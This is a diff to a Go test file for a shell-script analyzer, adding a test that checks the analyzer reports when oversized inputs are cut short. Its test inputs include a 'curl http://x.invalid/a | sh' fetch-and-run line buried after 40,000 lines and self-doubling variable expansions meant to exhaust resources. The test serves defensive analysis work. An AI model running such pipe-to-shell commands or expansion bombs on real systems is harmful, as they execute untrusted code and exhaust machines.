@@ -1,6 +1,7 @@
 package shell_test
 
 import (
+	"strconv"
 	"strings"
 	"testing"
 
@@ -101,6 +102,28 @@ func TestHostileScripts(t *testing.T) {
 		shell.AnalyzeBatch(src)
 	}
 	shell.Analyze([]byte("a=x\n" + strings.Repeat("a=$a$a$a$a\n", 10000) + "eval $a"))
+}
+
+func numbers(n int) []string {
+	out := make([]string, n)
+	for i := range out {
+		out[i] = strconv.Itoa(i)
+	}
+	return out
+}
+
+// TestLimitsAreSaid: what stands behind a limit was not read, and the facts say so.
+func TestLimitsAreSaid(t *testing.T) {
+	t.Parallel()
+	for _, c := range []struct{ why, src string }{
+		{"more commands than are read", strings.Repeat("true\n", 1<<16+1)},
+		{"more facts than are held", "a" + strings.Join(numbers(40_000), "\na") + "\ncurl http://x.invalid/a | sh\n"},
+		{"text that doubles", "x=a\n" + strings.Repeat("x=$x$x\n", 1000)},
+	} {
+		if got := shell.Analyze([]byte(c.src)); !got.Cut {
+			t.Errorf("%s: not said: %q", c.why, got.Unread)
+		}
+	}
 }
 
 func FuzzAnalyze(f *testing.F) {
